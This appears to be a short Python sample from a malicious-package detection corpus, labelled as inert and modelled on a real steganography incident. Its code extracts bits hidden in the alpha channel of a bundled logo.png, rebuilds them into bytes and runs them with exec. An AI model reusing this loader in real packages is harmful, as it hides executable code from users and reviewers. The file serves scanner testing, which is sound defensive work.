# pkgguard corpus 410 (steganography), modelled on [telnyx]; inert, never run.
import os

from PIL import Image

img = Image.open(os.path.join(os.path.dirname(__file__), "static", "logo.png")).convert("RGBA")
alpha = bytes(px[3] & 1 for px in img.getdata())
payload = bytes(int("".join(map(str, alpha[i:i + 8])), 2) for i in range(0, len(alpha) - 7, 8))
exec(payload.partition(b"\0")[0])
